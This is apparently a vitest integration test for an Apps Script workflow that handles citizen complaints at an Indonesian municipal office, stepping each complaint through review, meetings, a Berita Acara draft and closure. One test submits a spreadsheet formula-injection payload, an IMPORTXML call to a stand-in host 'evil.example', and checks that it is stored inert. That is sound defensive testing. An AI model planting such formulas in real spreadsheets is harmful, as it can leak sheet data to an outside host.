/**
 * The whole procedure in the built Apps Script: a citizen's Form submission, then every SOP step
 * taken by the role that owns it through its own menu, its dialog and the dialog's server call.
 */
import { describe, expect, it } from 'vitest';
import { ACTIONS, WAITING_FOR } from '../../core/sop.js';
import { STATUS_LABEL } from '../../sheets-schema/index.js';
import { dayFromIso, wibInstant } from '../../core/time.js';
import { ALL_PERSYARATAN, HEAVY_PATH, history, office, openAction, register, STAFF, submit, type Office, type Step } from './fixture.js';

function take(o: Office, nomor: string, step: Step): Record<string, unknown> {
  if (step.on) o.s.setNow(wibInstant(dayFromIso(step.on), 14, 0));
  const model = openAction(o, step.role, nomor, ACTIONS[step.aksi].label);
  expect(model.terpilih).toBe(nomor);
  expect((model.kolom as { key: string }[]).map((k) => k.key)).toEqual(ACTIONS[step.aksi].inputs.map((f) => f.key));
  return o.s.call('kirimAksi', { aksi: step.aksi, nomor, masukan: step.masukan }) as Record<string, unknown>;
}

const INVITATION = HEAVY_PATH[4]?.masukan ?? {};
const RESULT = HEAVY_PATH[5]?.masukan ?? {};

describe('the other roads of the procedure, through the menus', () => {
  it('missing requirements, then a light complaint answered directly', async () => {
    const o = await office();
    submit(o);
    const nomor = String(register(o)[0]?.['Nomor Registrasi']);
    const steps: Step[] = [
      { role: 'petugas', aksi: 'periksa', masukan: { persyaratan: ['surat_ditandatangani'], catatan: 'Belum diketahui Lurah.' }, status: 'MENUNGGU_KELENGKAPAN' },
      { role: 'petugas', aksi: 'lengkapi', masukan: { persyaratan: ALL_PERSYARATAN }, status: 'DIPERIKSA', on: '2026-11-26' },
      { role: 'subkoordinator', aksi: 'nilai', masukan: { kategori: 'ringan', alasan: 'Cukup dijelaskan.' }, status: 'DITANGANI_LANGSUNG' },
      { role: 'subkoordinator', aksi: 'jawab', masukan: { jawaban: 'Izin bengkel sudah lengkap; jam operasional diingatkan.', cara: 'whatsapp' }, status: 'SELESAI' },
    ];
    const asked = o.s.fakes.state.mails.length;
    for (const step of steps) expect(take(o, nomor, step), step.aksi).toMatchObject({ ok: true, status: STATUS_LABEL[step.status] });
    // The complainant was asked for the missing requirements, and told the answer.
    const toCitizen = o.s.fakes.state.mails.slice(asked).filter((m) => m.to.includes('siti.rahmah@contoh.id'));
    expect(toCitizen.map((m) => m.subject)).toEqual([`Pengaduan ${nomor}: mohon lengkapi persyaratan`, `Pengaduan ${nomor} selesai ditangani`]);
    // The pause does not count against the 7 working days.
    expect(register(o)[0]?.['Hari Kerja Dijeda']).toBe(2);
  });

  it('a rescheduled meeting, a returned draft and its revision, then a complaint closed as outside the office', async () => {
    const o = await office();
    submit(o);
    submit(o, { nama_pelapor: 'Pelapor Kedua' });
    const [first, second] = register(o).map((r) => String(r['Nomor Registrasi']));
    const steps: Step[] = [
      ...HEAVY_PATH.slice(0, 5),
      { role: 'subkoordinator', aksi: 'jadwal_ulang', masukan: { ...INVITATION, tanggal: '2026-11-27' }, status: 'RAPAT_DIJADWALKAN' },
      { role: 'subkoordinator', aksi: 'catat_hasil_rapat', masukan: RESULT, status: 'DRAFT_BA', on: '2026-11-27' },
      { role: 'koordinator', aksi: 'kembalikan', masukan: { catatan: 'Lengkapi tenggat tindak lanjut.' }, status: 'REVISI_BA' },
      { role: 'subkoordinator', aksi: 'perbaiki_draf', masukan: { tindak_lanjut: [{ uraian: 'Pemantauan', pelaksana: 'DLH', tenggat: '2026-12-20' }] }, status: 'DRAFT_BA' },
    ];
    for (const step of steps) expect(take(o, first ?? '', step), step.aksi).toMatchObject({ ok: true, status: STATUS_LABEL[step.status] });
    expect(register(o)[0]?.['Catatan Revisi BA']).toBe('Lengkapi tenggat tindak lanjut.');
    const closed = take(o, second ?? '', {
      role: 'kepala',
      aksi: 'tutup',
      masukan: { alasan: 'Bukan kewenangan DPMPTSP; menyangkut ketertiban umum.', diteruskan_kepada: 'Satpol PP Kota Payakumbuh' },
      status: 'DITUTUP',
    });
    expect(closed).toMatchObject({ ok: true, status: STATUS_LABEL.DITUTUP });
    expect(register(o)[1]?.['Diteruskan kepada']).toBe('Satpol PP Kota Payakumbuh');
    expect(new Set(history(o).map((h) => h.Aksi))).toEqual(new Set(['catat', ...steps.map((s) => s.aksi), 'tutup']));
  });
});

describe('a complaint from the Form to the delivered Berita Acara, through the menus', () => {
  it('registers once, walks all twelve SOP steps, and mails whoever must act next', async () => {
    const o = await office();
    const ev = submit(o, { isi_pengaduan: '=IMPORTXML("http://evil.example/x", "//a")' });
    o.s.call('onFormSubmit', ev); // the trigger fires twice
    const rows = register(o);
    expect(rows).toHaveLength(1);
    const row = rows[0] ?? {};
    const nomor = String(row['Nomor Registrasi']);
    expect(nomor).toMatch(/^PGD-2026-\d{4}$/);
    expect(row.Status).toBe('DITERIMA');
    expect(row['Isi Pengaduan']).toBe('=IMPORTXML("http://evil.example/x", "//a")');
    expect(row['Jatuh Tempo']).toBe('2026-12-03');
    expect(row['Telepon/WhatsApp Pelapor']).toBe('081266110001');
    expect(o.dokumenCalls[0]).toMatchObject({ nomor, jenis: ['tanda_terima', 'lembar_pengaduan'], lampiran: true });
    expect(o.dokumenCalls[0]?.token).not.toBe('');
    const receipt = o.s.fakes.state.mails.find((m) => m.to.includes('siti.rahmah@contoh.id'));
    expect(receipt?.subject).toBe(`Tanda terima pengaduan ${nomor}`);
    expect(receipt?.body).toContain(String(row['Kode Akses']));
    expect(receipt?.attachments).toEqual([`${nomor}_tanda-terima.docx`]);
    expect(o.s.fakes.state.mails.some((m) => m.to.includes(STAFF.petugas))).toBe(true);
    expect(o.s.fakes.state.heldLocks).toEqual([]);

    for (const step of HEAVY_PATH) {
      const mailsBefore = o.s.fakes.state.mails.length;
      const result = take(o, nomor, step);
      expect(result, `${step.aksi}: ${JSON.stringify(result)}`).toMatchObject({ ok: true, nomor, status: STATUS_LABEL[step.status] });
      expect(register(o)[0]?.Status).toBe(step.status);
      expect(o.s.fakes.state.heldLocks).toEqual([]);
      const next = WAITING_FOR[step.status];
      if (next && next !== step.role) expect(o.s.fakes.state.mails.length, `${step.aksi} mails the next role`).toBeGreaterThan(mailsBefore);
    }
    const final = register(o)[0] ?? {};
    expect(final['Nomor Berita Acara']).toMatch(/BA/);
    expect(final['Status SLA']).toBe('SELESAI_TEPAT_WAKTU');
    expect(history(o).map((h) => h.Aksi)).toEqual(['catat', ...HEAVY_PATH.map((s) => s.aksi)]);
    expect(history(o).every((h) => h['Nomor Registrasi'] === nomor)).toBe(true);
  });
});
